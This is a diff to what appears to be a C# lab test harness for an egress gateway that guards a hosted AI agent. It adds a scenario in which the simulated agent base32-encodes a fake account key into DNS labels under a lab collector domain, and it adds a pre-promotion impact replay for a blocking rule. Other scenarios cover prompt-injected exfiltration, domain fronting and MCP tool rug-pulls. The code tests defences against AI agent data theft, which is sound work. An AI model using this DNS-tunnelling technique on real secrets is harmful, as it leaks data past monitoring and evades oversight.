@@ -28,6 +28,7 @@ internal static class ScenarioPlays
         "domain-fronting" => FrontingAsync(s, c, ct),
         "dns-rebinding" => RebindingAsync(s, c, ct),
         "watch-then-enforce" => WatchThenEnforceAsync(s, c, ct),
+        "dns-exfiltration" => DnsExfiltrationAsync(s, c, ct),
         "unapproved-mcp-tool" => UnapprovedToolAsync(s, c, ct),
         "mcp-tool-rug-pull" => RugPullAsync(s, c, ct),
         _ => throw new InvalidOperationException($"no play for {s.Id}"),
@@ -35,8 +36,7 @@ internal static class ScenarioPlays
 
     private static async Task<ScenarioResult> RuntimeStartupAsync(Scenario s, ScenarioContext c, CancellationToken ct)
     {
-        var token = await c.Agent.SendAsync(HttpMethod.Post, $"https://{LabHosts.Login.Name}/contoso.onmicrosoft.com/oauth2/v2.0/token", "grant_type=client_credentials&client_id=agent", Form, ct);
-        var manifest = await c.Agent.SendAsync(HttpMethod.Get, $"https://{LabHosts.Registry.Name}/v2/foundry/agent/manifests/latest", null, Form, ct);
+        var (token, manifest) = await StartRuntimeAsync(c, ct);
         var login = await WaitForRecord(c, LabHosts.Login.Name);
         var registry = await WaitForRecord(c, LabHosts.Registry.Name);
         var pinned = c.Agent.SeenCertificates.TryGetValue(LabHosts.Login.Name, out var l) && l.Issuer.Contains("Lab Microsoft") &&
@@ -122,9 +122,9 @@ internal static class ScenarioPlays
         var bytes = c.Server(LabHosts.Mcp).BytesReceived - before;
         // The refusal is the payload check's; the rule that let the flow in (and decrypted it) is on the flow's decision record.
         var decision = record is null ? null : c.Records.FirstOrDefault(r => r.Event == FlowEvent.Decision && r.FlowId == record.FlowId);
-        var passed = post is { Kind: AttemptKind.Response, Status: 403 } && record?.Check == Interception.Http.GatewayCheck.PayloadInspection &&
-                     record.Refusal == "the request carries 'private-key'" && bytes == 0 && Rule(decision) == s.ExpectedRule;
-        return Result(s, c, $"{post.Describe()}: {record?.Refusal ?? "no refusal logged"}", Rule(decision), true, bytes, passed);
+        var passed = post is { Kind: AttemptKind.Response, Status: 403 } && record is { Check: Interception.Http.GatewayCheck.PayloadInspection } &&
+                     record.Refusal!.Contains("'private-key'") && bytes == 0 && Rule(decision) == s.ExpectedRule;
+        return Result(s, c, $"{post.Describe()}: {(record is null ? "no refusal logged" : $"{record.Check}: {record.Refusal}")}", Rule(decision), true, bytes, passed);
     }
 
     private static async Task<ScenarioResult> LateralAsync(Scenario s, ScenarioContext c, CancellationToken ct)
@@ -221,9 +221,20 @@ internal static class ScenarioPlays
         var collector = c.Server(LabHosts.Collector);
         var before = collector.BytesReceived;
         await c.Promoter.SetModeAsync(rule, RuleMode.Watch, ct);
+        // The runtime keeps working while the catch-all is watched: its platform flows are recorded beside the exfiltration.
+        var (token, manifest) = await StartRuntimeAsync(c, ct);
         var watched = await c.Agent.SendAsync(HttpMethod.Post, McpStandIn.InjectedUrl, "{\"conversation\":\"watched\"}", Json, ct);
         var watchedRecord = await WaitForRecord(c, LabHosts.Collector.Name, null, r => r.Verdict is { Enforced: false });
         var afterWatch = collector.BytesReceived;
+
+        // Before promoting: the flows the gateway remembers, the watch-mode ones included, replayed against the policy with
+        // the rule enforced (the admin API's impact). The agent may reuse its tunnels, so the runtime's flows of this pass count too.
+        var (replayed, wouldBlock) = await c.Promoter.ImpactAsync(rule, ct);
+        var runtimeBlocked = wouldBlock.Where(b => b.Key == LabHosts.Login.Name || b.Key == LabHosts.Registry.Name).Sum(b => b.Value);
+        var replayNote = $"replay before promotion: {replayed} recorded flows, {runtimeBlocked} runtime (platform) flows would be denied, " +
+                         $"{wouldBlock.GetValueOrDefault(LabHosts.Collector.Name)} to the collector would be blocked";
+        if (runtimeBlocked > 0 || wouldBlock.GetValueOrDefault(LabHosts.Collector.Name) == 0 || !token.Ok || !manifest.Ok)
+            return Result(s, c, $"not promoted: {replayNote}", Rule(watchedRecord), false, afterWatch - before, false, replayNote);
 
         await c.Promoter.SetModeAsync(rule, RuleMode.Enforce, ct);
         var enforced = await c.Agent.SendAsync(HttpMethod.Post, McpStandIn.InjectedUrl, "{\"conversation\":\"enforced\"}", Json, ct);
@@ -231,10 +242,51 @@ internal static class ScenarioPlays
         var leakedAfterPromotion = collector.BytesReceived - afterWatch;
         var passed = watched.Ok && watchedRecord is not null && afterWatch > before && enforced.Refused && leakedAfterPromotion == 0 && Rule(enforcedRecord) == rule;
         return Result(s, c, $"watch: {watched.Describe()}, logged enforced=false; promoted: {enforced.Describe()}", Rule(enforcedRecord), false, leakedAfterPromotion, passed,
-            $"{afterWatch - before} bytes reached the collector while watched; {leakedAfterPromotion} after promotion");
+            $"{replayNote}; {afterWatch - before} bytes reached the collector while watched; {leakedAfterPromotion} after promotion");
+    }
+
+    /// <summary>
+    /// The agent encodes a secret in base32 labels under the collector's domain and asks its resolver (the gateway) for
+    /// it; the name server behind the gateway must never see the name, while a platform name still resolves.
+    /// </summary>
+    private static async Task<ScenarioResult> DnsExfiltrationAsync(Scenario s, ScenarioContext c, CancellationToken ct)
+    {
+        var secret = Base32Lower(Encoding.UTF8.GetBytes("AccountKey=lab-secret-Q3-revenue"));
+        var exfilName = $"{secret}.{LabHosts.Collector.Name}";
+        var exfil = await c.Resolver.ResolveAsync(exfilName, ct);
+        var platform = await c.Resolver.ResolveAsync(LabHosts.Login.Name, ct);
+        var record = await WaitFor(() => c.Records.LastOrDefault(r => r.Event == FlowEvent.Dns && r.Host == exfilName));
+        var leaked = c.NameServer.Questions.Where(q => q.Name == LabHosts.Collector.Name || q.Name.EndsWith("." + LabHosts.Collector.Name)).ToList();
+        var platformReached = c.NameServer.Questions.Any(q => q.Name == LabHosts.Login.Name);
+        var passed = exfil?.ResponseCode == 3 && leaked.Count == 0 && record?.Dns?.Answered == false && record.Dns.Rule == s.ExpectedRule &&
+                     platform?.ResponseCode == 0 && platform.Addresses.Contains(c.Network.AddressOf(LabHosts.Login)) && platformReached;
+        var flags = record?.Dns?.Flags is { Count: > 0 } f ? $" (flagged {string.Join(", ", f)})" : "";
+        return Result(s, c, $"resolver {c.Resolver.EndPoint}: {exfilName[..12]}….{LabHosts.Collector.Name} -> {exfil?.Describe() ?? "no answer"}{flags}; " +
+                            $"{LabHosts.Login.Name} -> {platform?.Describe() ?? "no answer"}", record?.Dns?.Rule, false, leaked.Sum(q => q.Bytes), passed,
+            $"the name server behind the gateway received {c.NameServer.Questions.Count} question(s), {leaked.Count} under {LabHosts.Collector.Name}");
+    }
+
+    private static string Base32Lower(byte[] data)
+    {
+        const string alphabet = "abcdefghijklmnopqrstuvwxyz234567";
+        var text = new StringBuilder();
+        int buffer = 0, bits = 0;
+        foreach (var b in data)
+        {
+            buffer = (buffer << 8) | b;
+            bits += 8;
+            while (bits >= 5) { text.Append(alphabet[(buffer >> (bits - 5)) & 31]); bits -= 5; }
+        }
+        if (bits > 0) text.Append(alphabet[(buffer << (5 - bits)) & 31]);
+        return text.ToString();
     }
 
     // ---- helpers ---------------------------------------------------------------------------------------------
+
+    /// <summary>What the hosted-agent runtime does on start: a token from Microsoft identity, its image manifest from MCR.</summary>
+    private static async Task<(Attempt Token, Attempt Manifest)> StartRuntimeAsync(ScenarioContext c, CancellationToken ct) =>
+        (await c.Agent.SendAsync(HttpMethod.Post, $"https://{LabHosts.Login.Name}/contoso.onmicrosoft.com/oauth2/v2.0/token", "grant_type=client_credentials&client_id=agent", Form, ct),
+         await c.Agent.SendAsync(HttpMethod.Get, $"https://{LabHosts.Registry.Name}/v2/foundry/agent/manifests/latest", null, Form, ct));
 
     private static string? Rule(FlowRecord? record) => record?.Verdict?.Rule?.Name;
 
